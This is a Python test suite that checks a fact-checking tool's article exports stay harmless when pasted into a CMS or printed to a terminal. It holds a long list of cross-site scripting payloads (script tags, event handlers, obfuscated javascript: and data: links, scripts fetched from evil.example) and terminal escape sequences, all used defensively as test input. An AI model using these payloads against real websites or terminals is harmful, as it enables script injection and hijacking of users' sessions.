"""Article exports are safe to paste and to print, whatever a case holds.

A Markdown article goes into CMSes that render raw HTML, so it is checked the way such a
CMS would show it: rendered by markdown-it with HTML enabled, then parsed as a browser
would. Nothing that runs script may survive (script-bearing elements, ``on*`` attributes,
links or images going anywhere but the web or e-mail), while ordinary Markdown must still
work. The article exports also carry no control character, so printing one to a terminal
cannot send it an escape sequence.
"""

from __future__ import annotations

import dataclasses
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from workbench.casefile.store import CaseFile
from workbench.cli import main
from workbench.config import load_config
from workbench.formats.article import build_article
from workbench.formats.export import render
from workbench.formats.markdown_export import contained, render_markdown
from workbench.formats.text_export import plain
from workbench.model import (
    Assessment,
    Case,
    Claim,
    Correction,
    Question,
    Section,
    SectionKind,
    Source,
    Verdict,
)

#: Hostile section text: each must render as inert text, or as a link to the web at most.
PAYLOADS = [
    # Script elements, spelled many ways.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "</p><script>alert(1)</script><p>",
    "text <script>alert(1)</script> inline",
    "<script type=\"module\">import('https://evil.example/m.js')</script>",
    "  <script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<textarea><script>alert(1)</script></textarea>",
    # Event-handler attributes.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '"><img src=x onerror=alert(1)>',
    "<img src=x onerror\n=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Other elements that load or run something.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<base href="javascript:alert(1)//">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<img src="jav&#x09;ascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # javascript: and friends in Markdown links, with case, entity and whitespace tricks.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    '[x](javascript:alert(1) "title")',
    "[x](\njavascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    # Reference-style links and their definitions.
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[evil]\n\n[evil]: javascript:alert(1)",
    '[x][]\n\n[x]: <javascript:alert(1)> "title"',
    "![img][pic]\n\n[pic]: javascript:alert(1)",
    "[x]: https://example.org/ok\n[x]: javascript:alert(1)\n\n[x]",
    "[x]: javascript:alert(1)\n[x]: https://example.org/ok\n\n[x]",
    "- [x][evil]\n\n  [evil]: javascript:alert(1)",
    # Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,alert(1)>",
    "<vbscript:msgbox(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    # Images.
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](mailto:a@example.org)",
    '![<img src=x onerror=alert(1)>](https://example.org/a.png "<script>")',
    # Comments, CDATA, processing instructions, declarations.
    "<!-- <script>alert(1)</script> -->",
    "<!--\n<script>alert(1)</script>\n-->",
    "<!-- never closed <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    # Markdown and HTML nested in each other.
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a ![b](javascript:1) <b onclick=x>c</b>](javascript:2)",
    "*<script>alert(1)</script>*",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- <iframe src=javascript:alert(1)>",
    "1. [x](javascript:alert(1))\n   <img src=x onerror=alert(1)>",
    "`<script>` and <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "<div>\n\n**bold** <script>alert(1)</script>\n\n</div>",
    '[x](https://example.org "<script>alert(1)</script>")',
    "\\<script>alert(1)</script>",
    "Heading <img src=x onerror=alert(1)>\n===",
    "# <script>alert(1)</script>",
    '<a title="<script>alert(1)</script>">',
    "![" * 15 + "x" + "](javascript:alert(1))" * 15,
    # Unicode and entity escapes: text, never markup.
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
]

#: What markdown-it makes of Markdown on its own; any other element came from raw HTML.
MARKDOWN_ELEMENTS = frozenset({
    "p", "em", "strong", "a", "img", "code", "pre", "ul", "ol", "li", "blockquote", "hr",
    "br", "h1", "h2", "h3", "h4", "h5", "h6",
})
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
IMAGE_SCHEMES = frozenset({"http", "https"})


class Elements(HTMLParser):
    """Every element a browser would build, with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def renderers() -> list[MarkdownIt]:
    """A CMS's Markdown: markdown-it with raw HTML on, and one that trusts every URL as
    many renderers do (markdown-it alone leaves ``[x](javascript:...)`` as text)."""
    vetting = MarkdownIt("commonmark", {"html": True})
    trusting = MarkdownIt("commonmark", {"html": True})
    trusting.validateLink = lambda url: True  # type: ignore[method-assign]
    return [vetting, trusting]


RENDERERS = renderers()
#: Markdown's own output: raw HTML shown as text.
WITHOUT_HTML = MarkdownIt("commonmark", {"html": False})


def as_a_cms_shows_it(
    markdown: str, renderers: list[MarkdownIt] = RENDERERS
) -> list[tuple[str, dict[str, str]]]:
    """The elements of the Markdown rendered by each renderer, as a browser reads them."""
    parser = Elements()
    for renderer in renderers:
        parser.feed(renderer.render(markdown))
    parser.close()
    return parser.found


def goes_to(url: str, schemes: frozenset[str]) -> bool:
    """Whether a browser following ``url`` stays on the page or goes where ``schemes`` say."""
    return url.startswith("#") or urlsplit(url.strip()).scheme.lower() in schemes


def problems(markdown: str) -> list[str]:
    """What in the rendered Markdown could run script or leave for an unsafe address, and
    whether any raw HTML (a tag, a comment, CDATA...) reached the page as HTML."""
    found = []
    if RENDERERS[0].render(markdown) != WITHOUT_HTML.render(markdown):
        found.append("raw HTML")
    for tag, attributes in as_a_cms_shows_it(markdown):
        if tag not in MARKDOWN_ELEMENTS:
            found.append(f"<{tag}> element")
        found += [f"{name} attribute on <{tag}>" for name in attributes if name.startswith("on")]
        if "href" in attributes and not goes_to(attributes["href"], LINK_SCHEMES):
            found.append(f"href {attributes['href']!r}")
        if "src" in attributes and not goes_to(attributes["src"], IMAGE_SCHEMES):
            found.append(f"src {attributes['src']!r}")
    return found


def case_with(text: str, body: str | None = None) -> Case:
    """A case with ``text`` in every field an article shows, and ``body`` in its sections."""
    body = text if body is None else body
    return Case(
        id="hostile", title=text,
        claim=Claim(text=text, claimant=text, claimant_role=text, date_made=text),
        verdict=Verdict(rating=text, conclusion=text, established=[text], unresolved=[text],
                        checked_on=text),
        questions=[Question(id="q1", text=text)],
        sources=[Source(id="s1", number=1, title=text, author=text, outlet=text, url=text,
                        archived_url=text, date_published=text, date_accessed=text,
                        excerpts=[text], notes=text,
                        assessment=Assessment(motive_note=text, dispute_note=text,
                                              corroboration_note=text))],
        sections=[
            Section(id="a", kind=SectionKind.EXECUTIVE_SUMMARY, heading=text, body=body),
            Section(id="b", heading=text, body=body),
            Section(id="c", kind=SectionKind.BOTTOM_LINE, heading=text, body=body),
        ],
        corrections=[Correction(id="k", date=text, what=text, why=text)],
    )


def markdown_of(case: Case) -> str:
    return render_markdown(build_article(case))


# --- Markdown: hostile text ---------------------------------------------------------------


def test_the_corpus_bites() -> None:
    """At least 60 payloads, put into Markdown as they are, reach the page; the others
    are near misses (escapes, code, comments) that must stay as harmless as they are."""
    dangerous = [payload for payload in PAYLOADS if problems(payload)]
    assert len(dangerous) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_export_is_inert(payload: str) -> None:
    assert problems(markdown_of(case_with(payload))) == []


def test_markdown_export_is_inert_with_every_payload_in_one_body() -> None:
    """Payloads together: one body's definitions and openings meet the next one's text."""
    body = "\n\n".join(PAYLOADS)
    assert problems(markdown_of(case_with("\n".join(PAYLOADS), body))) == []


def test_markdown_export_shows_raw_html_as_text() -> None:
    markdown = markdown_of(case_with("Plain.", body="Before <script>alert(1)</script> after."))
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
    assert "Before &lt;script&gt;alert(1)&lt;/script&gt; after." in html


def test_refused_links_and_images_keep_their_text() -> None:
    body = "See [the memo](javascript:alert(1)) and ![a chart](data:image/png;base64,AA==)."
    assert "See the memo and a chart." in contained(body)


def test_a_body_nested_too_deep_to_unpick_becomes_literal_text() -> None:
    body = "![" * 15 + "x" + "](javascript:alert(1))" * 15
    elements = as_a_cms_shows_it(markdown_of(case_with("Plain.", body=body)))
    assert [tag for tag, _ in elements if tag in ("a", "img")] == []


#: Pieces that HTML and Markdown give a meaning, to build hostile bodies from.
HOSTILE = st.lists(
    st.sampled_from([
        "<script>", "</script>", "<img src=x onerror=alert(1)>", "<iframe>", "<style>",
        "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<a href=", '"', "'", " onload=",
        "javascript:alert(1)", "data:text/html,x", "JaVaScRiPt&#58;", "&#106;", "[", "]", "(",
        ")", "![", "](", "<", ">", "[r]: ", "[r]", "\n", "\n\n", "> ", "- ", "1. ", "    ",
        "`", "```", "*", "_", "\\", "#", "===", "https://example.org", "mailto:a@b.org", "x",
    ]) | st.text(max_size=4),
    max_size=30,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(body=HOSTILE, text=HOSTILE)
def test_any_text_renders_without_script(body: str, text: str) -> None:
    assert problems(markdown_of(case_with(text, body))) == []


@settings(max_examples=200, deadline=None)
@given(body=st.text())
def test_any_unicode_body_renders_without_script(body: str) -> None:
    assert problems(contained(body)) == []


# --- Markdown: ordinary text still works -----------------------------------------------------


def test_ordinary_markdown_survives() -> None:
    body = (
        "See [the report](https://example.org/report) and **bold** or *slanted* words [1].\n"
        "\n"
        "- a list item\n"
        "- [mail us](mailto:desk@example.org) or <https://example.org/auto>\n"
        "\n"
        "> quoted ![chart](https://example.org/chart.png)\n"
        "\n"
        "`<code>` stays code. [A reference][ref].\n"
        "\n"
        "[ref]: https://example.org/ref\n"
    )
    markdown = contained(body)
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
    assert '<a href="https://example.org/report">the report</a>' in html
    assert "<strong>bold</strong>" in html and "<em>slanted</em>" in html
    assert "words [1].</p>" in html
    assert '<a href="mailto:desk@example.org">mail us</a>' in html
    assert '<a href="https://example.org/auto">https://example.org/auto</a>' in html
    assert '<img src="https://example.org/chart.png" alt="chart" />' in html
    assert "<code>&lt;code&gt;</code>" in html
    assert '<a href="https://example.org/ref">A reference</a>' in html
    assert html.count("<li>") == 2 and "<blockquote>" in html
    assert markdown == body.strip("\n")


def test_a_source_address_on_the_web_stays_a_link() -> None:
    case = case_with("Plain.")
    case.sources[0].url = "https://example.org/a"
    case.sources[0].archived_url = "javascript:alert(1)"
    elements = as_a_cms_shows_it(markdown_of(case), RENDERERS[:1])
    hrefs = [attributes["href"] for tag, attributes in elements if tag == "a"]
    assert hrefs == ["https://example.org/a"]


def test_text_export_prints_only_the_addresses_the_other_exports_link_to() -> None:
    body = ("[web](https://example.org/a) [bad port](http://example.org:99999/) "
            "[page](#part) [mail](mailto:desk@example.org)")
    assert plain(body) == (
        "web (https://example.org/a) bad port page mail (mailto:desk@example.org)"
    )


# --- Control characters ----------------------------------------------------------------------

#: Terminal escapes (set the clipboard, clear the screen), a bell, C1 controls, NUL, DEL.
CONTROLS = "\x1b]52;c;aGVsbG8=\x07\x1b[2J\x9b31m\x85\x90\x00\x7f\x08\x0c\x0b"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def with_controls(value: Any) -> None:
    """Append CONTROLS to every string the case holds, however deep (ids and enums aside)."""
    for field in dataclasses.fields(value):
        current = getattr(value, field.name)
        if type(current) is str and field.name != "id":
            setattr(value, field.name, current + CONTROLS)
        elif isinstance(current, list):
            for index, item in enumerate(current):
                if type(item) is str:
                    current[index] = item + CONTROLS
                elif dataclasses.is_dataclass(item):
                    with_controls(item)
        elif dataclasses.is_dataclass(current):
            with_controls(current)


@pytest.mark.parametrize("format_name", ["md", "txt", "html"])
def test_article_exports_carry_no_control_character(format_name: str) -> None:
    case = case_with("Text")
    with_controls(case)
    assert case.title.endswith(CONTROLS) and case.sources[0].excerpts[0].endswith(CONTROLS)
    text = render(case, format_name, config=load_config())
    assert CONTROL.findall(text) == []


@pytest.mark.parametrize("format_name", ["md", "txt", "html"])
def test_workbench_export_writes_no_escape_sequence(tmp_path: Path, format_name: str) -> None:
    case = case_with("Text")
    case.title = "Title \x1b]52;c;aGVsbG8=\x07 and \x1b[2J done"
    path = tmp_path / "hostile.case.db"
    CaseFile.create(path, case).close()
    output = tmp_path / f"out.{format_name}"
    runner = CliRunner()
    printed = runner.invoke(main, ["export", str(path), "--format", format_name, "--force"])
    written = runner.invoke(main, ["export", str(path), "--format", format_name, "--force",
                                   "-o", str(output)])
    assert printed.exit_code == 0 and written.exit_code == 0, printed.output + written.output
    # The title is there, each control character marked by U+FFFD.
    assert "Title \ufffd" in printed.output and " done" in printed.output
    assert CONTROL.findall(printed.output) == []
    assert CONTROL.findall(output.read_text("utf-8")) == []
